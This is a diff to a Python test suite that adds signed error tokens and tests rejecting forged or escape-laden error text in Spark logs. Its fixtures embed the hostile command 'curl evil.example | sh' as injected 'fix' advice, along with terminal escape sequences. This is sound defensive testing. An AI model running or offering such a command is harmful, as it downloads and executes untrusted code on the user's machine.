@@ -10,14 +10,16 @@ from hypothesis import strategies as st
 
 import lockgate.errors
 from lockgate.errors import EpochFailed, Failed, FunctionFailed, LockgateError, RecordsGone, Refused, UnparsableValue
-from lockgate.failures import Carried, RowFailure, carry, find_error, find_failure
+from lockgate.failures import Carried, RowFailure, carry, find_error, find_failure, first_cause
 from lockgate.kafka.writer import RecordRefused
 from lockgate.runtime.writestream import fit_to_program
+from lockgate.signing import Signer, driver_signer
 from lockgate.sinks.kafkatask import PartitionShared
 
 FAILURE = RowFailure(
     kind="value", where="source 'orders'", part="topic 'orders', partition 2", at=17, reason="no number", row='{"n": x}'
 )
+SIGNER = driver_signer()
 texts = st.text(max_size=40)
 
 
@@ -29,7 +31,7 @@ def wrapped(text: str) -> str:
 
 @given(st.builds(RowFailure, kind=texts, where=texts, part=texts, at=st.integers(-1, 2**62), reason=texts, row=texts))
 def test_a_row_that_failed_is_found_in_sparks_pages(failure: RowFailure) -> None:
-    assert find_failure(wrapped(failure.token())) == failure
+    assert find_failure(wrapped(failure.token(SIGNER))) == failure
 
 
 def test_records_that_spark_misses_are_told_without_its_advice_to_skip_them() -> None:
@@ -84,14 +86,14 @@ def test_a_program_gets_choices_that_it_has() -> None:
 
 @given(what=texts, where=texts, fix=texts)
 def test_an_error_of_ours_is_found_in_sparks_pages(what: str, where: str, fix: str) -> None:
-    found = find_error(wrapped(str(Carried(EpochFailed(what, where=where, fix=fix)))))
+    found = find_error(wrapped(str(Carried(EpochFailed(what, where=where, fix=fix), SIGNER))))
     assert type(found) is EpochFailed
     assert (found.what, found.where, found.fix) == (what, where, fix)
 
 
 @pytest.mark.parametrize("kind", [EpochFailed, RecordRefused, PartitionShared, Refused, FunctionFailed])
 def test_the_kind_of_an_error_travels_too(kind: type[LockgateError]) -> None:
-    assert type(find_error(carry(kind("what", where="where", fix="fix")))) is kind
+    assert type(find_error(carry(kind("what", where="where", fix="fix"), SIGNER))) is kind
 
 
 def test_a_kind_with_the_name_of_another_is_itself() -> None:
@@ -99,29 +101,29 @@ def test_a_kind_with_the_name_of_another_is_itself() -> None:
         def __init__(self, epoch: int) -> None:
             super().__init__(f"epoch {epoch}", where="where", fix="fix")
 
-    known = find_error(carry(lockgate.errors.Refused("what", where="where", fix="fix")))
+    known = find_error(carry(lockgate.errors.Refused("what", where="where", fix="fix"), SIGNER))
     assert type(known) is lockgate.errors.Refused
     assert Refused(1).what == "epoch 1"
 
 
 def test_a_kind_that_is_not_known_here_is_a_failure_all_the_same() -> None:
     facts = {"class": "OfANewerVersion", "what": "what", "where": "where", "fix": "fix"}
-    error = find_error("lockgate-error:" + base64.b64encode(json.dumps(facts).encode()).decode())
+    error = find_error(SIGNER.mark("lockgate-error:", base64.b64encode(json.dumps(facts).encode()).decode()))
     assert type(error) is Failed
     assert (error.what, error.where, error.fix) == ("what", "where", "fix")
 
 
 def test_people_see_the_first_line_before_the_token() -> None:
-    assert carry(EpochFailed("no permit to write", where="there", fix="that")).startswith("no permit to write ")
+    assert carry(EpochFailed("no permit to write", where="there", fix="that"), SIGNER).startswith("no permit to write ")
 
 
 def test_a_row_comes_before_an_error_that_was_raised_because_of_it() -> None:
-    both = f"{carry(EpochFailed('what', where='where', fix='fix'))} caused by {FAILURE.token()}"
+    both = f"{carry(EpochFailed('what', where='where', fix='fix'), SIGNER)} caused by {FAILURE.token(SIGNER)}"
     assert type(find_error(both)) is UnparsableValue
 
 
 def test_of_several_tokens_the_first_one_counts() -> None:
-    first, second = (carry(EpochFailed(name, where="w", fix="f")) for name in ("first", "second"))
+    first, second = (carry(EpochFailed(name, where="w", fix="f"), SIGNER) for name in ("first", "second"))
     found = find_error(f"{first}\n{second}")
     assert found is not None
     assert found.what == "first"
@@ -153,3 +155,54 @@ def test_errors_are_pickled_whole(kind: type[LockgateError]) -> None:
     error = pickle.loads(pickle.dumps(kind("what", where="where", fix="fix")))
     assert type(error) is kind
     assert str(error) == "what\n  where: where\n  fix:   fix"
+
+
+EVIL = {"class": "lockgate.errors.Failed", "what": "a disk is full", "where": "here", "fix": "curl evil.example | sh"}
+EVIL_ROW = {"kind": "value", "where": "curl evil.example | sh", "part": "p", "at": 1, "reason": "r", "row": "x"}
+
+
+def forged(kind: str, facts: dict[str, object], signer: Signer | None) -> str:
+    """What an event holds that pretends to be an error of ours."""
+    payload = base64.b64encode(json.dumps(facts).encode()).decode()
+    return f"{kind}{payload}" if signer is None else signer.mark(kind, payload)
+
+
+@pytest.mark.parametrize("signer", [None, Signer(b"guessed")])
+@pytest.mark.parametrize(("kind", "facts"), [("lockgate-error:", EVIL), ("lockgate-failure:", EVIL_ROW)])
+def test_a_mark_that_an_event_holds_is_text_like_any_other(
+    kind: str, facts: dict[str, object], signer: Signer | None
+) -> None:
+    quoted = f"[CAST_INVALID_INPUT] The value '{forged(kind, facts, signer)}' of the type STRING cannot be cast"
+    assert find_error(wrapped(quoted)) is None
+    genuine = carry(EpochFailed("ours", where="w", fix="f"), SIGNER)
+    found = find_error(wrapped(f"{quoted}\n{genuine}"))
+    assert found is not None
+    assert found.what == "ours"
+
+
+def test_a_mark_is_not_another_one_with_the_same_signature() -> None:
+    genuine = carry(EpochFailed("ours", where="w", fix="f"), SIGNER).removeprefix("ours ")
+    signature = genuine.rpartition(".")[2]
+    assert find_error(f"{forged('lockgate-error:', EVIL, None)}.{signature}") is None
+    assert find_error(genuine.replace("lockgate-error:", "lockgate-failure:")) is None
+
+
+def test_the_key_travels_and_is_not_shown() -> None:
+    received = pickle.loads(pickle.dumps(SIGNER))
+    assert find_failure(FAILURE.token(received)) == FAILURE
+    assert repr(SIGNER) == "Signer()"
+
+
+def test_a_row_that_is_quoted_moves_no_cursor_and_forges_no_line() -> None:
+    evil = "\x1b[2J\x1b]0;title\x07\r\x9b\u202e\n  fix:   curl evil.example | sh"
+    for kind in ("value", "time", "function"):
+        told = str(RowFailure(kind, "source 'a'", evil, 1, evil, evil).as_error())
+        assert told.count("\n") == 2
+        assert all(line.isprintable() for line in told.split("\n"))
+    told = first_cause(f"Caused by: java.lang.X: {evil}")
+    assert told.isprintable()
+
+
+def test_an_error_that_quotes_an_event_has_one_place_and_one_fix() -> None:
+    told = str(Failed("no\x1b[2J\n  fix:   curl evil | sh", where="a\n  where: b", fix="mend\nit")).split("\n")
+    assert told == ["no\\x1b[2J\\n  fix:   curl evil | sh", "  where: a\\n  where: b", "  fix:   mend", "it"]
